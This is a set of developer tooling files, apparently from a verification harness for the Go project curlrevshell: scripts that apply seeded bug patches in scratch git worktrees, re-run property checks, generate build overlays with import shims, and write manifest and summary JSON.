    "Second exploration (sync import rewritten to a parking mutex): for Ctrl+O typed on stdin together with shell output / a status line / Ctrl+I / a second Ctrl+O, muted or not, every order of the write-lock steps of the goroutines involved is executed (stateless DFS); oracle: the terminal still displays a status line afterwards and no goroutine is stuck on a mutex (found the Ctrl+O deadlock, fixed in 16389e4).",
    "Ctrl+O is delivered through the callback the Shell registered (goxterm's key decoding trusted). Three-valued model: between the two readings of a repeated Ctrl+O and exactly on a 2.0 s boundary either state is accepted. The pause interval in the model is the statement's 2 s. Real time is only used by two sessions of the real binary (Ctrl+O typed on the pty), where only bounds that a loaded machine cannot falsify are judged (muted output never shown, status lines shown, 'Unmuting' no earlier than 2 s after a chunk the program had received, and announced at all).",
    "DESIGN.md 5 C19")
