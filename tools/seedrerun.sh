#!/bin/bash
# Re-run a check against an already confirmed seeded change: seedrerun.sh <id> <prop> [tier]
id=$1 prop=$2 tier=${3:-quick}
V=$(cd "$(dirname "$0")/.." && pwd)
wt=/tmp/seedrerun-$id
git -C /repo worktree remove --force "$wt" >/dev/null 2>&1
git -C /repo worktree add -q --detach "$wt" HEAD || exit 2
(cd "$wt" && git apply "$V/seeded/$id/patch.diff") || { echo "patch does not apply"; git -C /repo worktree remove --force "$wt"; exit 2; }
(cd "$V" && VERIF_REPO=$wt VERIF_OUT_DIR=$V/.build/seedout/$id ./run "$prop" "$tier") >"$V/seeded/$id/check.out" 2>&1
rc=$?
git -C /repo worktree remove --force "$wt"
rm -rf "$V/.build/seedout/$id"
echo "$id: check_${prop}_${tier} exit=$rc violations=$(grep -c '^VIOLATION' "$V/seeded/$id/check.out")"
grep '^# ' "$V/seeded/$id/check.out" | head -3 | cut -c1-250
