#!/usr/bin/env python3
"""Generate a `go build -overlay` file that maps /verif/harness into the
repository's module as the virtual directory <repo>/verifx, plus per-flavour
rewritten copies of repository files (import shims) and in-package helper
files.  Nothing under <repo> is written.

usage: mkoverlay.py <flavour> <repo> <verif> <outdir>
prints the path of the overlay JSON
"""
import json, os, re, sys

flavour, repo, verif, outdir = sys.argv[1:5]
os.makedirs(outdir, exist_ok=True)
MOD = "github.com/magisterquis/curlrevshell"
repl = {}

# 1. harness packages -> <repo>/verifx/**
hroot = os.path.join(verif, "harness")
for d, _, fs in os.walk(hroot):
    rel = os.path.relpath(d, hroot)
    if rel.split(os.sep)[0] == "inpkg":
        continue
    for f in fs:
        if f.endswith(".go") or f.endswith(".s") or f.endswith(".txt"):
            repl[os.path.normpath(os.path.join(repo, "verifx", rel, f))] = os.path.join(d, f)

# 2. in-package helpers: harness/inpkg/<path with __ for />/*.go -> <repo>/<path>/zz_verif_*.go
iroot = os.path.join(hroot, "inpkg")
if os.path.isdir(iroot):
    for pk in os.listdir(iroot):
        tgt = os.path.join(repo, pk.replace("__", os.sep))
        for f in os.listdir(os.path.join(iroot, pk)):
            if f.endswith(".go"):
                repl[os.path.join(tgt, "zz_verif_" + f)] = os.path.join(iroot, pk, f)

# 3. import shims
def shim(relpath, *pairs):
    """Re-emit <repo>/relpath with each import imp replaced by verifx/new (pairs: imp, new, imp, new, ...)."""
    src = os.path.join(repo, relpath)
    txt = open(src).read()
    for imp, new in zip(pairs[0::2], pairs[1::2]):
        pat = re.compile(r'^\t"%s"$' % re.escape(imp), re.M)
        if not pat.search(txt):
            if imp == "sync":
                continue  # the file no longer locks anything itself: nothing to shim
            sys.stderr.write("BROKEN: import %r not found in %s\n" % (imp, relpath))
            sys.exit(2)
        txt = pat.sub('\t%s "%s/verifx/%s"' % (imp.split("/")[-1], MOD, new), txt, count=1)
    out = os.path.join(outdir, flavour + "__" + relpath.replace("/", "__"))
    open(out, "w").write(txt)
    repl[src] = out

if flavour == "vtime":
    shim("lib/opshell/opshell.go", "time", "vtime", "sync", "vsync")
elif flavour == "vos":
    shim("lib/sstls/archive.go", "os", "vos")
    shim("lib/sstls/gencert.go", "os", "vos")
    # any other file of the package that comes to use os (none at the pinned commit)
    for f in sorted(os.listdir(os.path.join(repo, "lib/sstls"))):
        if f.endswith(".go") and not f.endswith("_test.go") and f not in ("archive.go", "gencert.go") and re.search(r'^\t"os"$', open(os.path.join(repo, "lib/sstls", f)).read(), re.M):
            shim("lib/sstls/" + f, "os", "vos")
elif flavour == "vclock":
    # every clock the HTTP layer and the broker may come to use (none at the pinned commit)
    for d in ("internal/hsrv", "internal/iobroker"):
        for f in sorted(os.listdir(os.path.join(repo, d))):
            if f.endswith(".go") and not f.endswith("_test.go") and re.search(r'^\t"time"$', open(os.path.join(repo, d, f)).read(), re.M):
                shim(d + "/" + f, "time", "vtime")
elif flavour != "base":
    sys.stderr.write("BROKEN: unknown flavour %s\n" % flavour)
    sys.exit(2)

out = os.path.join(outdir, "overlay-%s.json" % flavour)
json.dump({"Replace": repl}, open(out, "w"), indent=1)
print(out)
