cd "$(dirname "$0")/.."
for p in C15 C16 C17 C18 C13 C14 C08 C07 C05 C09 C10 C02 C03 C11 C01 C19 C20; do for v in C D; do
	[ -d /tmp/wt-$p/seeded/$v ] || continue
	echo "=== $p $v"; tools/seedauto.sh $p $v 2>&1 | grep -E '^(suite|demo|check|patch|#|no demo)' | cut -c1-250
done; done
