cd "$(dirname "$0")/.."
t=tools/seedconfirm.sh
$t C02-A C02 /tmp/wt-C02/seeded/A demo_a_test.go internal/iobroker/demo_a_test.go
$t C02-B C02 /tmp/wt-C02/seeded/B demo_b_test.go internal/iobroker/demo_b_test.go
$t C03-A C03 /tmp/wt-C03/seeded/A demo_test.go.txt internal/iobroker/seeded_a_demo_test.go
$t C03-B C03 /tmp/wt-C03/seeded/B demo_test.go.txt lib/opshell/seeded_b_demo_test.go
$t C04-A C04 /tmp/wt-C04/seeded/A demo_test.go.txt internal/iobroker/demo_a_test.go -tags verif
$t C04-B C04 /tmp/wt-C04/seeded/B demo_test.go.txt internal/iobroker/demo_b_test.go
$t C06-A C06 /tmp/wt-C06/seeded/A demo_test.go internal/iobroker/demo_test.go
$t C06-B C06 /tmp/wt-C06/seeded/B demo_test.go internal/iobroker/demo_test.go
$t C11-A C11 /tmp/wt-C11/seeded/A demo_test.go internal/iobroker/seeded_a_demo_test.go
$t C11-B C11 /tmp/wt-C11/seeded/B demo_test.go internal/iobroker/seeded_b_demo_test.go
$t C15-A C15 /tmp/wt-C15/seeded/A demo_test.go.txt lib/uu/seeded_a_demo_test.go
$t C15-B C15 /tmp/wt-C15/seeded/B demo_test.go.txt lib/uu/seeded_b_demo_test.go
