cd "$(dirname "$0")/.."
for p in "$@"; do for v in E F; do
	[ -d /tmp/wt-$p/seeded/$v ] || continue
	echo "=== $p $v"; tools/seedauto.sh $p $v 2>&1 | grep -E '^(suite|demo|check|patch|#|no demo)' | cut -c1-250
done; done
