#!/usr/bin/env python3
"""Write seeded/<id>/meta.json from what seedconfirm.sh recorded (confirm.log, check.out) and the
sub-agent's notes; print a summary table (used for DESIGN.md)."""
import json, os, re, sys
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
rows = []
for d in sorted(os.listdir(os.path.join(V, "seeded"))):
    p = os.path.join(V, "seeded", d)
    if not os.path.isdir(p) or not os.path.exists(os.path.join(p, "patch.diff")):
        continue
    prop = d.split("-")[0]
    log = open(os.path.join(p, "confirm.log"), errors="replace").read() if os.path.exists(os.path.join(p, "confirm.log")) else ""
    out = open(os.path.join(p, "check.out"), errors="replace").read() if os.path.exists(os.path.join(p, "check.out")) else ""
    notes = open(os.path.join(p, "NOTES.agent.md"), errors="replace").read() if os.path.exists(os.path.join(p, "NOTES.agent.md")) else ""
    files = sorted(set(re.findall(r"^\+\+\+ b/(\S+)", open(os.path.join(p, "patch.diff"), errors="replace").read(), re.M)))
    demo = [f for f in os.listdir(p) if f.startswith("demo") or f.endswith("_test.go") or f.endswith(".go.txt")]
    viols = re.findall(r"^# ([^:]+):", out, re.M)
    nv = len(re.findall(r"^VIOLATION", out, re.M))
    tier = "quick"
    m = re.search(r"^(C\d+) (quick|thorough):", out, re.M)
    ran = prop
    if m: tier, ran = m.group(2), m.group(1)
    meta = {
        "id": d,
        "property": prop,
        "breaks": "property %s (see NOTES.agent.md, written by the sub-agent that made the change, for the clause)" % prop,
        "files_changed": files,
        "needs_to_manifest": " ".join(notes.split())[:700] if notes else "",
        "demonstration": demo,
        "confirmed_by_me": {
            "existing_suite_with_change": "pass" if "suite_with_change=pass" in log else "FAIL",
            "demonstration_with_change": "fails" if "demo_with_change=fail" in log else "passes(!)",
            "demonstration_without_change": "passes" if "demo_without_change=pass" in log else "FAILS(!)",
            "how": "tools/seedconfirm.sh in a fresh scratch worktree of /repo (git worktree add /tmp/seedconfirm-<id>), removed afterwards",
        },
        "check_result": {
            "command": "VERIF_REPO=<scratch worktree with the patch applied> ./run %s %s" % (ran, tier),
            "check_run": ran,
            "caught": nv > 0,
            "violations": nv,
            "signatures": sorted(set(viols))[:12],
        },
    }
    json.dump(meta, open(os.path.join(p, "meta.json"), "w"), indent=1)
    rows.append((d, ",".join(os.path.basename(f) for f in files), "caught (%d)" % nv if nv else "MISSED", "; ".join(sorted(set(viols))[:2])[:110]))
for r in rows:
    print("| %s | %s | %s | %s |" % r)
