#!/usr/bin/env python3
"""Regenerate /verif/MANIFEST.json from the table below and validate it.
A property is claimed when it has an entry in CHECKS; every other property of
properties.jsonl is listed under not_applicable with the reason in NA."""
import json, os, sys

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# id -> (category, technique, text, note, design_ref)
CHECKS = {}
NA = {}

def chk(pid, cat, tech, text, note, ref):
    CHECKS[pid] = (cat, tech, text, note, ref)

exec(open(os.path.join(V, "tools", "manifest_table.py")).read())

props = [json.loads(l)["id"] for l in open(os.path.join(V, "properties.jsonl"))]
checks = []
for pid in props:
    if pid not in CHECKS:
        continue
    cat, tech, text, note, ref = CHECKS[pid]
    checks.append({
        "property_id": pid,
        "quick_cmd": "./run %s quick" % pid,
        "thorough_cmd": "./run %s thorough" % pid,
        "evidence_file": "/verif/evidence/%s.json" % pid,
        "replay_cmd_template": "./run replay {path}",
        "engine": "vcheck",
        "level_claimed": {"category": cat, "text": text, "design_ref": ref},
        "level_note": note,
        "technique": tech,
    })
na = [{"property_id": p, "reason": NA.get(p, "no check built yet for this property; nothing is claimed")}
      for p in props if p not in CHECKS]
m = {
    "version": 1,
    "setup_cmd": "./run setup",
    "hooks": {
        "guard": "verif",
        "enable": "cd /repo && go build -tags verif -overlay <generated overlay mapping /verif/harness to /repo/verifx> ./verifx/cmd/vcheck (done by ./run)",
        "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod go test -json -vet=off -count=1 -timeout 25m ./...",
        "source_commits": HOOK_COMMITS,
        "add_only": True,
    },
    "engines": ENGINES,
    "checks": checks,
    "notes": NOTES,
    "not_applicable": na,
}
json.dump(m, open(os.path.join(V, "MANIFEST.json"), "w"), indent=1)
try:
    import jsonschema
    jsonschema.validate(m, json.load(open("/root/.vp/MANIFEST.schema.json")))
    print("MANIFEST.json valid: %d checks, %d not_applicable" % (len(checks), len(na)))
except ImportError:
    print("written (jsonschema not importable here)")
